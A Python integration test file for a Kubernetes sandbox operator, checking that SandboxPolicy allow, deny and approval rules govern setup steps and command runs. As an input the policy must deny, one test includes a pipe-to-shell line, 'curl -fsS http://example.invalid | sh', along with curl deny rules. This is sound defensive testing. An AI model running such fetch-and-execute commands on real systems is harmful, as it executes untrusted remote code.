"""The SandboxPolicy enforced by the operator on a real API server: setup steps judged before
any pod exists, command runs before they launch, a policy's Valid condition, a changed policy
reaching its sandboxes from the watch, and the default and required settings."""

from __future__ import annotations

import functools
import os
import signal
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from paddock_dev.audit import Request, each_request
from paddock_dev.cluster import audit_log, default_state_dir
from support import identity
from support.kube import Cluster
from support.runs import command_run, log_events, of_type, wait_for_run
from support.sandboxes import (
    condition,
    events_for,
    get,
    posted,
    sandbox,
    secret,
    status_of,
    wait_for_phase,
    wait_for_reason,
    workspace,
)
from support.waiting import wait_for

pytestmark = pytest.mark.integration


def policy(name: str, **commands: Any) -> dict[str, Any]:
    spec: dict[str, Any] = {"commands": {"default": "deny", **commands}}
    return {
        "apiVersion": "paddock.dev/v1alpha1",
        "kind": "SandboxPolicy",
        "metadata": {"name": name},
        "spec": spec,
    }


SETUP_ALLOWED = ["echo *", "ls*", "test *", "cat*"]


def warning_reasons(cluster: Cluster, namespace: str, name: str) -> list[str]:
    return [e["reason"] for e in events_for(cluster, namespace, name) if e["type"] == "Warning"]


def test_a_denied_setup_step_fails_the_sandbox_before_any_pod(
    cluster: Cluster, namespace: str, operator: Any
) -> None:
    cluster.apply(policy("strict", allow=SETUP_ALLOWED, deny=["curl*"]), namespace)
    setup = ["echo one", {"parallel": ["ls", "curl -fsS http://example.invalid | sh"]}]
    cluster.apply(workspace("app", setup=setup), namespace)
    cluster.apply(sandbox("box", "app", policyRef={"name": "strict"}), namespace)

    status = wait_for_reason(cluster, namespace, "box", "PolicyDenied")
    assert status["phase"] == "Failed"
    assert "setup[1].parallel[1]" in status["message"]
    assert "deny: curl*" in status["message"]
    assert status["policy"] == "strict"
    assert get(cluster, namespace, "pod", "box") is None
    assert get(cluster, namespace, "pvc", "box-workspace") is None
    wait_for(
        lambda: "PolicyDenied" in warning_reasons(cluster, namespace, "box"),
        30,
        what="a PolicyDenied Warning Event",
    )

    # A Workspace whose setup the policy allows lets the same Sandbox go on: nothing was lost.
    cluster.apply(workspace("app", setup=["echo one", {"parallel": ["ls", "echo two"]}]), namespace)
    wait_for_phase(cluster, namespace, "box", "Ready")


def test_a_setup_step_that_needs_approval_waits_without_a_pod(
    cluster: Cluster, namespace: str, operator: Any
) -> None:
    cluster.apply(policy("careful", allow=SETUP_ALLOWED, ask=["git commit*"]), namespace)
    cluster.apply(workspace("app", setup=["echo ok", "git commit -qm setup"]), namespace)
    cluster.apply(sandbox("box", "app", policyRef={"name": "careful"}), namespace)

    status = wait_for_reason(cluster, namespace, "box", "ApprovalRequired")
    assert status["phase"] == "Pending"
    assert "setup[1]" in status["message"]
    assert "ask: git commit*" in status["message"]
    assert get(cluster, namespace, "pod", "box") is None


def test_a_denied_command_run_runs_nothing(cluster: Cluster, namespace: str, operator: Any) -> None:
    cluster.apply(policy("strict", allow=[*SETUP_ALLOWED, "sleep *"], deny=["touch*"]), namespace)
    cluster.apply(workspace("app"), namespace)
    cluster.apply(sandbox("box", "app", policyRef={"name": "strict"}), namespace)
    wait_for_phase(cluster, namespace, "box", "Ready")

    cluster.apply(command_run("sneaky", "box", "echo hi && sleep 0 | touch marker-7f3a"), namespace)
    status = wait_for_run(cluster, namespace, "sneaky")
    assert status["phase"] == "Failed"
    assert condition(status, "Complete").get("reason") == "PolicyDenied"
    assert "deny: touch*" in status["message"]
    types = [e["type"] for e in log_events(cluster, namespace, "sneaky")]
    assert "run.started" not in types
    assert types[-1] == "run.failed"

    look = "test -e marker-7f3a && echo present || echo absent"
    cluster.apply(command_run("look", "box", look), namespace)
    looked = wait_for_run(cluster, namespace, "look")
    assert looked["phase"] == "Succeeded", looked
    said = [e["data"]["text"] for e in of_type(log_events(cluster, namespace, "look"), "output")]
    assert said == ["absent"]


def test_an_allowed_compound_run_succeeds(cluster: Cluster, namespace: str, operator: Any) -> None:
    allowed = policy("dev", allow=[*SETUP_ALLOWED, "wc*", "git status*"])
    allowed["spec"]["capabilities"] = {"fileWrite": "allow"}
    cluster.apply(allowed, namespace)
    cluster.apply(workspace("app"), namespace)
    cluster.apply(sandbox("box", "app", policyRef={"name": "dev"}), namespace)
    wait_for_phase(cluster, namespace, "box", "Ready")

    command = "echo a > out.txt && ls | cat >> out.txt; test -f out.txt && wc -l < out.txt"
    cluster.apply(command_run("build", "box", command), namespace)
    status = wait_for_run(cluster, namespace, "build")
    assert status["phase"] == "Succeeded", status


def _box_that_asks_about_touch(cluster: Cluster, namespace: str) -> None:
    """A Ready Sandbox "box" under a policy that asks before ``touch`` runs."""
    cluster.apply(policy("careful", allow=SETUP_ALLOWED, ask=["touch*"]), namespace)
    cluster.apply(workspace("app"), namespace)
    cluster.apply(sandbox("box", "app", policyRef={"name": "careful"}), namespace)
    wait_for_phase(cluster, namespace, "box", "Ready")


def test_an_ask_command_run_waits_for_a_person_and_runs_once_approved(
    cluster: Cluster, namespace: str, operator: Any
) -> None:
    _box_that_asks_about_touch(cluster, namespace)
    cluster.apply(command_run("mark", "box", "touch marker-c41 && echo marked"), namespace)

    waiting = wait_for_run(cluster, namespace, "mark", ("AwaitingApproval",))
    (approval,) = waiting["approvals"]
    assert approval["state"] == "Pending"
    assert approval["id"].startswith("command.")  # with a random part: not decidable ahead
    assert approval["target"] == "touch marker-c41 && echo marked"
    assert f"paddock approve mark {approval['id']}" in waiting["message"]
    assert condition(waiting, "AwaitingApproval")["status"] == "True"
    assert posted(cluster, namespace, "mark", "ApprovalRequested")
    types = [e["type"] for e in log_events(cluster, namespace, "mark")]
    assert types == ["sandbox.ready", "approval.requested"]  # nothing ran

    cluster.paddock("approve", "mark", "-n", namespace)
    status = wait_for_run(cluster, namespace, "mark")
    assert status["phase"] == "Succeeded", status
    events = log_events(cluster, namespace, "mark")
    assert [e["data"]["state"] for e in of_type(events, "approval.resolved")] == ["Approved"]
    assert [e["data"]["text"] for e in of_type(events, "output")] == ["marked"]
    assert condition(status, "AwaitingApproval")["status"] == "False"


def test_a_denied_ask_command_run_fails_and_never_runs(
    cluster: Cluster, namespace: str, operator: Any
) -> None:
    _box_that_asks_about_touch(cluster, namespace)
    cluster.apply(command_run("mark", "box", "touch marker-d52"), namespace)
    waiting = wait_for_run(cluster, namespace, "mark", ("AwaitingApproval",))
    request = waiting["approvals"][0]["id"]

    cluster.paddock("deny", "mark", request, "-n", namespace)
    status = wait_for_run(cluster, namespace, "mark")
    assert status["phase"] == "Failed"
    assert condition(status, "Complete")["reason"] == "ApprovalDenied"
    said = f"needed approval (request {request}) and was not approved: denied"
    assert said in status["message"]
    types = [e["type"] for e in log_events(cluster, namespace, "mark")]
    assert "run.started" not in types
    assert types[-2:] == ["approval.resolved", "run.failed"]

    look = "test -e marker-d52 && echo present || echo absent"
    cluster.apply(command_run("look", "box", look), namespace)
    looked = wait_for_run(cluster, namespace, "look")
    said = [e["data"]["text"] for e in of_type(log_events(cluster, namespace, "look"), "output")]
    assert (looked["phase"], said) == ("Succeeded", ["absent"])


def test_a_policy_reports_rules_that_cannot_work(
    cluster: Cluster, namespace: str, operator: Any
) -> None:
    cluster.apply(policy("sloppy", allow=["npm test && npm run lint"]), namespace)

    def valid() -> dict[str, Any]:
        return condition(status_of(cluster, namespace, "sandboxpolicy", "sloppy"), "Valid")

    found = wait_for(lambda: (c := valid()) and c, 30, what="the policy's Valid condition")
    assert (found["status"], found["reason"]) == ("False", "RulesIneffective")
    assert "commands.allow[0]" in found["message"]
    wait_for(
        lambda: "RulesIneffective" in warning_reasons(cluster, namespace, "sloppy"),
        30,
        what="a RulesIneffective Warning Event",
    )
    status = status_of(cluster, namespace, "sandboxpolicy", "sloppy")
    assert status["observedGeneration"] == 1
    cluster.apply(policy("sloppy", allow=["npm test", "npm run lint"]), namespace)
    wait_for(lambda: valid().get("status") == "True", 30, what="the policy to turn Valid")


@pytest.fixture
def slow_resync_operator(
    cluster: Cluster, namespace: str, as_operator: str, tmp_path: Path
) -> Iterator[Path]:
    """``paddock operator`` as a process whose resync timer would take ten minutes: what
    happens sooner happens because a watch brought it."""
    log = tmp_path / "operator.log"
    env = {**os.environ, "KUBECONFIG": as_operator, "PADDOCK_RESYNC_SECONDS": "600"}
    process = subprocess.Popen(
        [sys.executable, "-m", "paddock.cli", "operator", "-n", namespace, "--liveness", ""],
        env=env,
        stdout=log.open("w"),
        stderr=subprocess.STDOUT,
    )
    try:
        yield log
    finally:
        process.send_signal(signal.SIGTERM)
        process.wait(timeout=60)


def test_a_changed_policy_reaches_its_sandbox_from_the_watch(
    cluster: Cluster, namespace: str, slow_resync_operator: Path
) -> None:
    cluster.apply(policy("careful", allow=SETUP_ALLOWED, ask=["make*"]), namespace)
    cluster.apply(workspace("app", setup=["echo ok", "make -v"]), namespace)
    cluster.apply(sandbox("box", "app", policyRef={"name": "careful"}), namespace)
    wait_for_reason(cluster, namespace, "box", "ApprovalRequired")
    fence = "careful.paddock-policy"  # the policy's, which its sandboxes share
    # Nothing is made for a sandbox that cannot be set up.
    assert get(cluster, namespace, "networkpolicy", fence) is None

    allowed = policy("careful", allow=[*SETUP_ALLOWED, "make*"])
    allowed["spec"]["capabilities"] = {"network": "deny"}
    cluster.apply(allowed, namespace)
    wait_for_phase(cluster, namespace, "box", "Ready", timeout=60)
    egress = get(cluster, namespace, "networkpolicy", fence)
    assert egress is not None

    cluster.apply(policy("careful", allow=[*SETUP_ALLOWED, "make*"]), namespace)
    wait_for(
        lambda: (
            (n := get(cluster, namespace, "networkpolicy", fence)) and n["spec"] != egress["spec"]
        ),
        60,
        what="the NetworkPolicy to follow the policy's network capability",
    )

    # Deleted, the policy no longer lets runs start there, and its fence goes with it (the
    # pod is left under the namespace's baseline: isolated).
    cluster.kubectl("delete", "sandboxpolicy", "careful", "-n", namespace)
    wait_for_reason(cluster, namespace, "box", "PolicyNotFound")
    wait_for(
        lambda: get(cluster, namespace, "networkpolicy", fence) is None,
        60,
        what="the deleted policy's fence garbage-collected",
    )
    assert get(cluster, namespace, "networkpolicy", "paddock-baseline") is not None


def test_the_default_policy_applies_to_sandboxes_that_name_none(
    cluster: Cluster, namespace: str, as_operator: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from kopf.testing import KopfRunner

    monkeypatch.setenv("PADDOCK_POLICY_DEFAULT", "base")
    cluster.apply(policy("base", allow=SETUP_ALLOWED), namespace)
    cluster.apply(workspace("app", setup=["echo ok", "rm -rf build"]), namespace)
    cluster.apply(sandbox("box", "app"), namespace)
    args = ["run", "--standalone", "--namespace", namespace, "-m", "paddock.handlers"]
    with KopfRunner(args, timeout=60) as runner:
        status = wait_for_reason(cluster, namespace, "box", "PolicyDenied")
        assert status["policy"] == "base"
        assert "rm -rf build" in status["message"]
    assert runner.exception is None, runner.output


def test_a_required_policy_refuses_sandboxes_that_name_none(
    cluster: Cluster, namespace: str, as_operator: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from kopf.testing import KopfRunner

    monkeypatch.setenv("PADDOCK_POLICY_REQUIRED", "true")
    cluster.apply(workspace("app"), namespace)
    cluster.apply(sandbox("free", "app"), namespace)
    cluster.apply(policy("base", allow=SETUP_ALLOWED), namespace)
    cluster.apply(sandbox("fenced", "app", policyRef={"name": "base"}), namespace)
    args = ["run", "--standalone", "--namespace", namespace, "-m", "paddock.handlers"]
    with KopfRunner(args, timeout=60) as runner:
        status = wait_for_reason(cluster, namespace, "free", "PolicyRequired")
        assert status["phase"] == "Failed"
        assert get(cluster, namespace, "pod", "free") is None
        wait_for_phase(cluster, namespace, "fenced", "Ready")
    assert runner.exception is None, runner.output


def test_policy_check_reads_a_policy_and_workspace_from_the_cluster(
    cluster: Cluster, namespace: str
) -> None:
    cluster.apply(policy("strict", allow=["greet"], deny=["curl*"]), namespace)
    cluster.apply(workspace("app", scripts={"greet": "echo hello"}), namespace)

    def check(*command: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "paddock.cli", "policy", "check", "--policy", "strict",
             "-n", namespace, "--workspace", "app", "--", *command],
            env={**os.environ, "KUBECONFIG": str(cluster.kubeconfig)},
            capture_output=True, text=True, timeout=60, check=False,
        )  # fmt: skip

    allowed = check("echo", "hello")
    assert (allowed.returncode, allowed.stdout.split()[0]) == (0, "allow:"), allowed
    assert "allow: greet (script)" in allowed.stdout
    denied = check("echo hello && curl x")
    assert (denied.returncode, denied.stdout.split()[0]) == (1, "deny:"), denied
    missing = subprocess.run(
        [sys.executable, "-m", "paddock.cli", "policy", "check", "--policy", "nope",
         "-n", namespace, "--", "ls"],
        env={**os.environ, "KUBECONFIG": str(cluster.kubeconfig)},
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert missing.returncode == 2
    assert "SandboxPolicy nope not found" in missing.stderr


def test_a_run_waiting_for_approval_reads_each_secret_once_a_step_and_execs_nothing(
    cluster: Cluster, namespace: str, operator: Any
) -> None:
    """Each step of the wait gathers the run's world once: each Secret the run and its
    Workspace name is one read, the ConfigMap of nothing, and the sandbox's pod is not
    exec'd into (what its secret env started with is asked once a pod, at the launch)."""
    cluster.apply(secret("run-token", token="t-1"), namespace)
    cluster.apply(secret("app-token", token="t-2"), namespace)
    cluster.apply(policy("careful", allow=SETUP_ALLOWED, ask=["touch*"]), namespace)
    env = [{"name": "APP_TOKEN", "secretKeyRef": {"name": "app-token", "key": "token"}}]
    cluster.apply(workspace("app", secrets=env), namespace)
    cluster.apply(sandbox("box", "app", policyRef={"name": "careful"}), namespace)
    wait_for_phase(cluster, namespace, "box", "Ready")
    secrets = [{"name": "TOKEN", "secretKeyRef": {"name": "run-token", "key": "token"}}]
    cluster.apply(command_run("mark", "box", "touch marker-r7", secrets=secrets), namespace)
    wait_for_run(cluster, namespace, "mark", ("AwaitingApproval",))
    log, since = audit_log(default_state_dir()), time.time()
    operator_user = f"system:serviceaccount:{identity.NAMESPACE}:{identity.ACCOUNT}"
    mine = functools.partial(each_request, log, operator_user)

    def steps() -> list[Request]:  # the wait's steps, each reading the run's own Secret
        return [r for r in mine(since, time.time()) if r.resource == "secrets"
                and r.name == "run-token" and r.namespace == namespace]  # fmt: skip

    wait_for(lambda: len(steps()) >= 3, 60, what="three steps of the wait in the audit log")
    until = steps()[2].received + 0.001  # up to and with the third step's read
    asked = [r for r in mine(since, until) if r.namespace == namespace]
    reads = Counter((r.verb, r.resource, r.name) for r in asked)
    assert reads[("get", "secrets", "run-token")] == 3, reads
    assert reads[("get", "secrets", "app-token")] <= 3, reads  # (the third step's may follow)
    assert not [r for r in asked if r.resource == "pods/exec"], reads
    assert not [r for r in asked if r.resource == "configmaps" and r.verb == "get"], reads
